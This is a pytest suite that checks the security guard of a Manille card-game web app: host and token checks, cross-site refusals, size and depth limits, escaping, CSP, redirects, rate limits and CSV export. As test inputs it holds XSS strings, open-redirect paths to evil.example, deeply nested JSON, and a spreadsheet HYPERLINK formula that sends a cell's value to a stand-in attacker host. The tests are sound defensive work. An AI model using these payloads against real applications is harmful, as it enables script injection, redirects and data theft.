"""The guard in front of the web app: hosts, the access token, same-site writes, JSON writes,
body sizes, user text escaped on every page; the security headers and the policy without inline
script; no open redirect; pages that compute refuse other sites, heavy work is rate-limited;
every number and nesting depth bounded; CSV cells that no spreadsheet runs."""

from __future__ import annotations

import base64
import csv
import doctest
import hashlib
import io
import re
import time
from pathlib import Path
from typing import Any
from urllib.parse import urljoin, urlsplit

import pytest
from starlette.testclient import TestClient
from webtools import client, make_app, new_sheet

from manille_variants.web.security import COOKIE, CSP, MAX_BODY, SECURITY_HEADERS, RateLimit, host_name, safe_path
from manille_variants.web.serve import allowed_hosts, qr_text, start_url

TOKEN = "s3cret-token"


@pytest.fixture
def c(tmp_path: Path) -> TestClient:
    return client(make_app(tmp_path / "data"))


@pytest.fixture
def lan(tmp_path: Path) -> TestClient:
    app = make_app(tmp_path / "data", token=TOKEN, hosts={"127.0.0.1", "192.168.1.20"})
    return client(app, "http://192.168.1.20:8000")


def test_an_unknown_host_header_is_refused(c: TestClient) -> None:
    assert c.get("/", headers={"host": "evil.example:8000"}).status_code == 400
    assert c.get("/", headers={"host": "localhost:8000"}).status_code == 200


def test_a_wildcard_server_takes_any_ip_address_but_no_unknown_name(tmp_path: Path) -> None:
    app = make_app(tmp_path / "data", hosts={"127.0.0.1"}, any_ip=True)
    c = client(app)
    assert c.get("/", headers={"host": "10.1.2.3:8000"}).status_code == 200
    assert c.get("/", headers={"host": "[fe80::1]:8000"}).status_code == 200
    assert c.get("/", headers={"host": "rebind.example:8000"}).status_code == 400


@pytest.mark.parametrize(("header", "name"), [("[::1]:8000", "::1"), ("LocalHost:80", "localhost"),
                                              ("127.0.0.1", "127.0.0.1")])
def test_host_name_drops_the_port(header: str, name: str) -> None:
    assert host_name(header) == name


def test_without_the_token_every_request_is_refused(lan: TestClient) -> None:
    assert lan.get("/").status_code == 401
    assert lan.get("/api/rulesets").status_code == 401
    assert lan.get("/", params={"token": "wrong"}).status_code == 401


def test_the_first_visit_with_the_token_turns_it_into_a_cookie(lan: TestClient) -> None:
    first = lan.get("/sheets", params={"token": TOKEN, "lang": "nl"}, follow_redirects=False)
    assert first.status_code == 303 and first.headers["location"] == "/sheets?lang=nl"
    assert COOKIE in first.cookies
    assert "httponly" in first.headers["set-cookie"].lower()
    assert lan.get("/sheets").status_code == 200
    assert lan.get("/api/rulesets").status_code == 200


def test_a_script_may_send_the_token_as_a_bearer_header(lan: TestClient) -> None:
    answer = lan.get("/api/rulesets", headers={"Authorization": f"Bearer {TOKEN}"})
    assert answer.status_code == 200


def test_a_write_from_another_site_is_refused(c: TestClient) -> None:
    answer = c.post("/api/sheets", json={"ruleset": "belgian"}, headers={"Origin": "http://evil.example"})
    assert answer.status_code == 403
    answer = c.post("/api/sheets", json={"ruleset": "belgian"}, headers={"Sec-Fetch-Site": "cross-site"})
    assert answer.status_code == 403
    same = c.post("/api/sheets", json={"ruleset": "belgian"}, headers={"Origin": "http://127.0.0.1:8000"})
    assert same.status_code == 201


def test_json_writes_need_the_json_content_type(c: TestClient) -> None:
    answer = c.post("/api/sheets", content=b'{"ruleset": "belgian"}', headers={"Content-Type": "text/plain"})
    assert answer.status_code == 415
    form = c.post("/api/sheets", data={"ruleset": "belgian"})
    assert form.status_code == 415


def test_a_body_larger_than_the_limit_is_refused(c: TestClient) -> None:
    big = '{"yaml": "' + "#" * (2 * 1024 * 1024) + '"}'
    answer = c.post("/api/validate", content=big.encode(), headers={"Content-Type": "application/json"})
    assert answer.status_code == 413


def test_a_body_that_is_not_json_is_a_400(c: TestClient) -> None:
    answer = c.post("/api/sheets", content=b"{", headers={"Content-Type": "application/json"})
    assert answer.status_code == 400 and answer.json()["error"] == "the body is not JSON"


def test_user_text_is_escaped_on_every_page(c: TestClient) -> None:
    evil = "<script>alert(1)</script>"
    sheet_id = new_sheet(c, team_a=evil, note=evil)
    c.post(f"/api/sheets/{sheet_id}/deals", json={"entry": "H 38 5", "by": evil})
    c.post("/api/rulesets", json={"yaml": 'name: club\ntitle: "<img src=x onerror=alert(1)>"\nextends: belgian\n'})
    for page in (f"/sheets/{sheet_id}", "/sheets", "/rulesets", "/rulesets/club", "/diff?a=club&b=belgian"):
        text = c.get(page).text
        assert evil not in text and "<img src=x" not in text, page
    assert "&lt;script&gt;" in c.get("/sheets").text


def test_the_start_url_carries_the_token_and_its_qr_code_prints() -> None:
    url = start_url("192.168.1.20", 8000, "abc")
    assert url == "http://192.168.1.20:8000/?token=abc"
    drawn = qr_text(url)
    assert len(drawn.splitlines()) > 10


def test_a_wildcard_bind_allows_this_machine_and_the_loopback() -> None:
    hosts = allowed_hosts("0.0.0.0")
    assert {"127.0.0.1", "localhost", "::1"} <= hosts
    assert allowed_hosts("127.0.0.1") == {"127.0.0.1", "localhost", "::1"}


# ------------------------------------------------------------------ headers and the policy
PAGES = ["/", "/rulesets", "/rulesets/belgian", "/diff", "/editor", "/score", "/sheets", "/play", "/compare",
         "/advise", "/analyze"]


@pytest.mark.parametrize("url", [*PAGES, "/api/rulesets", "/static/app.js", "/nope", "/api/sheets/nope"])
def test_every_response_carries_the_security_headers(c: TestClient, url: str) -> None:
    headers = c.get(url).headers
    for name, value in SECURITY_HEADERS.items():
        assert headers[name] == value, (url, name)


def test_a_refusal_of_the_guard_carries_them_too(c: TestClient) -> None:
    answer = c.get("/", headers={"host": "evil.example"})
    assert answer.status_code == 400 and answer.headers["x-frame-options"] == "DENY"


def test_the_policy_runs_only_the_apps_own_files_and_refuses_framing() -> None:
    rules = dict(part.strip().split(" ", 1) for part in CSP.split(";"))
    assert rules["script-src"] == "'self'" and rules["style-src"] == "'self'"
    assert rules["frame-ancestors"] == "'none'" and "unsafe" not in CSP


def _pages_with_content(c: TestClient) -> list[str]:
    sheet_id = new_sheet(c, team_a="Noord")
    c.post(f"/api/sheets/{sheet_id}/deals", json={"entry": "H 38 5"})
    game = c.post("/api/play", json={"seed": 3}).json()["id"]
    return [*PAGES, f"/sheets/{sheet_id}", f"/play/{game}", "/score?points=38&tricks=5",
            "/advise?ruleset=belgian&hand=10H+AH+KH+QH+10S+AS+7C+8D&samples=2", "/error-page-404"]


def test_no_page_has_inline_script_handlers_or_style(c: TestClient) -> None:
    for url in _pages_with_content(c):
        text = c.get(url).text
        for script in re.findall(r"<script\b[^>]*>", text):
            assert 'src="/static/' in script or 'type="application/json"' in script, (url, script)
        assert not re.search(r"<[^>]*\son[a-z]+\s*=", text), url
        assert not re.search(r"<[^>]*\sstyle\s*=", text), url
        assert "javascript:" not in text, url


def test_the_comparison_report_may_be_framed_by_the_app_alone(c: TestClient) -> None:
    job = c.post("/api/compare", json={"rulesets": ["belgian"], "deals": 4, "bots": "random"}).json()
    for _ in range(200):
        if c.get(f"/api/compare/{job['id']}").json()["finished"]:
            break
        time.sleep(0.05)
    report = c.get(f"/compare/{job['id']}/report")
    assert report.status_code == 200
    policy = report.headers["content-security-policy"]
    assert "frame-ancestors 'self'" in policy and "script-src" not in policy and "default-src 'none'" in policy
    assert report.headers["x-frame-options"] == "SAMEORIGIN"
    style = re.search(r"<style>(.*?)</style>", report.text, re.S)
    assert style is not None
    digest = base64.b64encode(hashlib.sha256(style.group(1).encode()).digest()).decode()
    assert f"style-src 'sha256-{digest}'" in policy  # the report's one style sheet, and nothing else
    assert "<script" not in report.text


# ------------------------------------------------------------------ no open redirect
@pytest.mark.parametrize("path", ["//evil.example/", "///evil.example/x", "/\\evil.example/", "/%2F%2Fevil.example",
                                  "/%2f/evil.example", "/%5Cevil.example", "/%5C%5Cevil.example", "/%09/evil.example",
                                  "/%0d%0a/evil.example", "/\\/evil.example", "/%E2%80%8B//evil.example"])
def test_the_token_visit_never_redirects_to_another_site(lan: TestClient, path: str) -> None:
    # The full address: a bare "//evil.example/" would be read by the client as another host.
    answer = lan.get(f"http://192.168.1.20:8000{path}", params={"token": TOKEN, "lang": "nl"},
                     follow_redirects=False)
    assert answer.request.url.raw_path.startswith(path.encode())
    assert answer.status_code == 303
    location = answer.headers["location"]
    assert location.startswith("/") and not location.startswith(("//", "/\\"))
    assert not re.search(r"[\s\\]", location), location
    for base in ("http://192.168.1.20:8000/sheets", "http://192.168.1.20:8000/"):
        assert urlsplit(urljoin(base, location)).netloc == "192.168.1.20:8000", location


@pytest.mark.parametrize("path", ["https://evil.example/x", "/https://evil.example/x", "\\\\evil.example",
                                  "/\t/evil.example", "http:evil.example"])
def test_a_redirect_target_is_always_a_path_here(path: str) -> None:
    target = safe_path(path)
    assert target.startswith("/") and not target.startswith(("//", "/\\"))
    assert urlsplit(urljoin("http://192.168.1.20:8000/a/b", target)).netloc == "192.168.1.20:8000"


def test_the_redirect_keeps_the_path_and_the_query(lan: TestClient) -> None:
    answer = lan.get("/sheets/ab cd", params={"token": TOKEN, "lang": "fr"}, follow_redirects=False)
    assert answer.headers["location"] == "/sheets/ab%20cd?lang=fr"


# ------------------------------------------------------------------ pages that compute
COMPUTING_GETS = ["/advise?ruleset=belgian&hand=10H+AH+KH+QH+10S+AS+7C+8D&samples=2", "/score?points=38&tricks=5",
                  "/analyze", "/compare", "/play", "/diff", "/api/rulesets", "/api/sheets"]


@pytest.mark.parametrize("url", COMPUTING_GETS)
@pytest.mark.parametrize("site", ["cross-site", "same-site"])
def test_a_page_that_computes_refuses_another_site(c: TestClient, url: str, site: str) -> None:
    answer = c.get(url, headers={"Sec-Fetch-Site": site, "Sec-Fetch-Mode": "no-cors", "Sec-Fetch-Dest": "image"})
    assert answer.status_code == 403
    if url.startswith("/api/"):
        assert answer.json()["error"].startswith("refused: another site asked this server for /api/")
    else:
        assert answer.headers["content-type"].startswith("text/html") and "refused: another site" in answer.text


@pytest.mark.parametrize("url", COMPUTING_GETS)
@pytest.mark.parametrize("site", ["same-origin", "none", None])
def test_the_apps_own_pages_and_typed_addresses_compute(c: TestClient, url: str, site: str | None) -> None:
    headers = {"Sec-Fetch-Site": site} if site else {}
    assert c.get(url, headers=headers).status_code == 200


def test_a_link_from_another_site_to_a_page_that_only_reads_is_followed(c: TestClient) -> None:
    sheet_id = new_sheet(c)
    for url in ("/", "/sheets", f"/sheets/{sheet_id}", "/rulesets", "/static/app.css"):
        assert c.get(url, headers={"Sec-Fetch-Site": "cross-site"}).status_code == 200, url


# ------------------------------------------------------------------ the rate of heavy work
HAND = "10H AH KH QH 10S AS 7C 8D"


def _limited(tmp_path: Path, capacity: float) -> TestClient:
    return client(make_app(tmp_path / "data", rate=RateLimit(capacity=capacity, per_second=0.001)))


@pytest.mark.parametrize(("url", "body"), [
    ("/api/advise", {"ruleset": "belgian", "hand": HAND, "samples": 2}),
    ("/api/analyze", {"record": "{"}),
    ("/api/play", {"seed": 1}),
    ("/api/compare", {"rulesets": ["belgian"], "deals": 1, "bots": "nope"}),
])
def test_heavy_work_is_rate_limited_per_client(tmp_path: Path, url: str, body: dict[str, object]) -> None:
    c = _limited(tmp_path, 2)
    assert [c.post(url, json=body).status_code != 429 for _ in range(2)] == [True, True]
    answer = c.post(url, json=body)
    assert answer.status_code == 429
    assert int(answer.headers["retry-after"]) >= 1
    assert answer.json()["error"].startswith("too many requests for heavy work from testclient: try again in ")
    assert c.get("/api/rulesets").status_code == 200  # light requests go on


def test_the_advice_page_is_limited_too_and_says_so_on_a_page(tmp_path: Path) -> None:
    c = _limited(tmp_path, 1)
    query = {"ruleset": "belgian", "hand": HAND, "samples": "2"}
    assert c.get("/advise", params=query).status_code == 200
    answer = c.get("/advise", params={**query, "lang": "nl"})
    assert answer.status_code == 429 and "te veel vragen" in answer.text and '<html lang="nl">' in answer.text
    assert c.get("/advise").status_code == 200  # the bare form computes nothing


def test_more_worlds_cost_more_of_the_budget(tmp_path: Path) -> None:
    c = _limited(tmp_path, 8)
    assert c.post("/api/advise", json={"ruleset": "belgian", "hand": HAND, "samples": 200}).status_code == 200
    assert c.post("/api/advise", json={"ruleset": "belgian", "hand": HAND, "samples": 2}).status_code == 429


def test_a_bucket_refills_with_time_and_is_kept_per_client() -> None:
    now = [0.0]
    limit = RateLimit(capacity=3, per_second=0.5, clock=lambda: now[0])
    assert [limit.spend("a", 1) for _ in range(4)] == [0.0, 0.0, 0.0, 2.0]
    assert limit.spend("b", 3) == 0.0  # another client has its own bucket
    now[0] = 2.0  # one token back
    assert limit.spend("a", 1) == 0.0 and limit.spend("a", 1) == 2.0
    assert limit.spend("a", 50) > 0  # a cost above the capacity waits for a full bucket, not forever


def test_only_so_many_clients_are_remembered() -> None:
    limit = RateLimit(capacity=1, per_second=0.001, clients=2, clock=lambda: 0.0)
    for client_address in ("a", "b", "c"):
        assert limit.spend(client_address) == 0.0
    assert limit.spend("a") == 0.0  # forgotten: a full bucket again
    assert limit.spend("c") > 0


# ------------------------------------------------------------------ every number and depth bounded
def _json_post(c: TestClient, url: str, raw: bytes) -> Any:
    return c.post(url, content=raw, headers={"Content-Type": "application/json"})


def test_json_nested_100000_deep_is_a_400(c: TestClient) -> None:
    for raw in (b"[" * 100_000 + b"]" * 100_000, b'{"yaml": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
                b'{"yaml": "a: 1", "x": ' + b"[" * 500 + b"]" * 500 + b"}"):
        answer = _json_post(c, "/api/validate", raw)
        assert answer.status_code == 400, answer.text
        assert answer.json()["error"] == "the body is nested too deeply: at most 20 levels of arrays and objects"
        assert answer.json()["code"] == "body.too-deep"


def test_an_imported_sheet_nested_deep_is_a_400(c: TestClient) -> None:
    raw = b'{"sheet": ' + b'{"a": ' * 60 + b"1" + b"}" * 60 + b"}"
    assert _json_post(c, "/api/sheets/import", raw).status_code == 400


def test_a_record_nested_deep_is_refused_with_its_name(c: TestClient) -> None:
    answer = c.post("/api/analyze", json={"record": '{"a": ' * 100_000 + "}" * 100_000, "name": "deep.json"})
    assert answer.status_code == 400
    assert answer.json()["error"] == "deep.json: not a game record: its JSON is nested too deeply"
    answer = c.post("/api/analyze", json={"record": '{"seed": ' + "9" * 5000 + "}", "name": "big.json"})
    assert answer.status_code == 400 and answer.json()["error"].startswith("big.json: not a game record")


def test_since_with_5000_digits_is_a_400(c: TestClient) -> None:
    sheet_id = new_sheet(c)
    for since in ("9" * 5000, "²", "-1", "1e3", "0x10"):
        answer = c.get(f"/api/sheets/{sheet_id}", params={"since": since})
        assert answer.status_code == 400, since
        assert answer.json()["error"].startswith("since: expected a whole number from 0 to 1000000000 (got ")
    assert c.get(f"/sheets/{sheet_id}", params={"since": "9" * 5000}).status_code == 400
    revision = c.get(f"/api/sheets/{sheet_id}").json()["revision"]
    assert c.get(f"/api/sheets/{sheet_id}", params={"since": str(revision)}).status_code == 204


def test_a_seed_of_10_to_the_30_is_a_400(c: TestClient) -> None:
    answer = c.post("/api/play", json={"seed": 10**30})
    assert answer.status_code == 400
    assert answer.json()["error"] == ("seed: expected a whole number from 0 to 9223372036854775807 "
                                      "(got 1000000000000000000000000000000)")
    assert c.post("/api/play", json={"seed": 2**63 - 1}).status_code == 201
    assert c.post("/api/compare", json={"rulesets": ["belgian"], "seed": -1}).status_code == 400
    assert c.post("/api/advise", json={"ruleset": "belgian", "hand": HAND, "seed": 10**30}).status_code == 400


@pytest.mark.parametrize(("url", "body"), [
    ("/api/score", {"rulesets": ["belgian"], "points": 10**30, "tricks": 5}),
    ("/api/score", {"rulesets": ["belgian"], "points": 38, "tricks": 5, "calls": -10**30}),
    ("/api/advise", {"ruleset": "belgian", "hand": HAND, "pending_ties": 10**30}),
    ("/api/compare", {"rulesets": ["belgian"], "deals": 10**30}),
])
def test_every_number_of_a_body_is_bounded(c: TestClient, url: str, body: dict[str, object]) -> None:
    answer = c.post(url, json=body)
    assert answer.status_code == 400
    assert "from -1000000000 to 1000000000 (got " in answer.json()["error"]


def test_a_number_of_5000_digits_in_a_body_is_a_400(c: TestClient) -> None:
    answer = _json_post(c, "/api/play", b'{"seed": ' + b"9" * 5000 + b"}")
    assert answer.status_code == 400 and answer.json()["error"] == "the body is not JSON"


def test_a_refusal_quotes_the_input_cut_short(c: TestClient) -> None:
    answer = c.post("/api/play", json={"seed": 10**3000})
    assert answer.status_code == 400 and len(answer.json()["error"]) < 120


@pytest.mark.parametrize("query", [{"points": "9" * 5000, "tricks": "5"}, {"points": "38", "tricks": "²"},
                                   {"points": "38", "tricks": "5", "calls": "9" * 5000},
                                   {"points": "38", "tricks": "5", "pending_ties": "-3"}])
def test_every_number_of_a_query_is_bounded(c: TestClient, query: dict[str, str]) -> None:
    assert c.get("/score", params=query).status_code == 400
    assert c.get("/score", params=query, headers={"Accept": "application/json"}).json()["error"].endswith(")")


@pytest.mark.parametrize("query", [{"samples": "9" * 5000}, {"seed": "9" * 5000}, {"pending_ties": "¹"},
                                   {"ruleset": "x" * 300}])
def test_the_advice_query_is_bounded(c: TestClient, query: dict[str, str]) -> None:
    assert c.get("/advise", params={"ruleset": "belgian", "hand": HAND, **query}).status_code == 400


def test_a_deal_number_of_5000_digits_in_a_path_is_not_found(c: TestClient) -> None:
    sheet_id = new_sheet(c)
    answer = c.delete(f"/api/sheets/{sheet_id}/deals/{'9' * 5000}")
    assert answer.status_code == 404 and answer.json()["error"] == "Not Found"
    assert c.put(f"/api/sheets/{sheet_id}/deals/{'9' * 10}", json={"entry": "H 38 5"}).status_code == 404
    assert c.put(f"/api/sheets/{sheet_id}/deals/7", json={"entry": "H 38 5"}).status_code == 400


def test_a_giant_body_is_a_413_in_the_usual_format(c: TestClient) -> None:
    answer = _json_post(c, "/api/validate", b"[" + b" " * (3 * 1024 * 1024) + b"]")
    assert answer.status_code == 413
    assert answer.json()["error"] == f"request body too large: at most {MAX_BODY} bytes"
    assert answer.json()["params"] == {"limit": MAX_BODY}
    huge_length = c.post("/api/sheets", content=b"{}", headers={"Content-Type": "application/json",
                                                                "Content-Length": "9" * 5000})
    assert huge_length.status_code in (400, 413)


def test_a_page_refusal_is_a_page_in_the_readers_language(c: TestClient) -> None:
    answer = c.post("/sheets", content=b"x" * (2 * 1024 * 1024), headers={"Origin": "http://evil.example"})
    assert answer.status_code == 403 and answer.headers["content-type"].startswith("text/html")
    page = c.get("/score", params={"points": "9" * 50, "tricks": "5", "lang": "fr"})
    assert page.status_code == 400 and '<html lang="fr">' in page.text


@pytest.mark.parametrize(("bots", "message"), [
    ("search:worlds=100000", "bot 'search': worlds at most 200 here (got 100000)"),
    ("heuristic,search:think_ms=1e9", "bot 'search': think_ms at most 2000 here (got 1e+09)"),
    ("ismcts:iterations=1000000,random", "bot 'ismcts': iterations at most 20000 here (got 1e+06)"),
])
def test_a_bots_budget_is_bounded_for_a_game_and_a_comparison(c: TestClient, bots: str, message: str) -> None:
    for url, body in (("/api/play", {"seed": 1, "bots": bots}),
                      ("/api/compare", {"rulesets": ["belgian"], "deals": 1, "bots": bots})):
        answer = c.post(url, json=body)
        assert (answer.status_code, answer.json()["error"]) == (400, message), url


def test_a_small_budget_is_taken(c: TestClient) -> None:
    assert c.post("/api/play", json={"seed": 1, "bots": "search:worlds=2,heuristic"}).status_code == 201


# ------------------------------------------------------------------ CSV
def test_a_csv_cell_that_looks_like_a_formula_is_written_as_text(c: TestClient) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    sheet_id = new_sheet(c, team_a="=1+1", team_b="Zuid")
    for by in (formula, "+33 6 12", "-2+3", "@SUM(A1)", "\tTab", "\rCR", "An"):
        assert c.post(f"/api/sheets/{sheet_id}/deals", json={"entry": "H 38 5", "by": by}).status_code == 200
    rows = list(csv.reader(io.StringIO(c.get(f"/sheets/{sheet_id}/export.csv").text)))
    assert rows[0] == ["deal", "game", "dealer", "entry", "points_a (=1+1)", "points_b (Zuid)", "total_a (=1+1)",
                       "total_b (Zuid)", "pending_ties", "by", "at"]
    entered_by = [row[9] for row in rows[1:]]
    assert entered_by == ["'" + formula, "'+33 6 12", "'-2+3", "'@SUM(A1)", "'\tTab", "'\rCR", "An"]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_a_csv_of_a_sheet_without_names_keeps_its_header(c: TestClient) -> None:
    sheet_id = new_sheet(c)
    header = c.get(f"/sheets/{sheet_id}/export.csv").text.splitlines()[0]
    assert header == "deal,game,dealer,entry,points_a,points_b,total_a,total_b,pending_ties,by,at"


@pytest.mark.parametrize("module", ["security", "bodies", "sheets", "search", "play"])
def test_the_docstring_examples_of_the_web_modules_run(module: str) -> None:
    mod = __import__(f"manille_variants.web.{module}", fromlist=["_"])
    assert doctest.testmod(mod).failed == 0
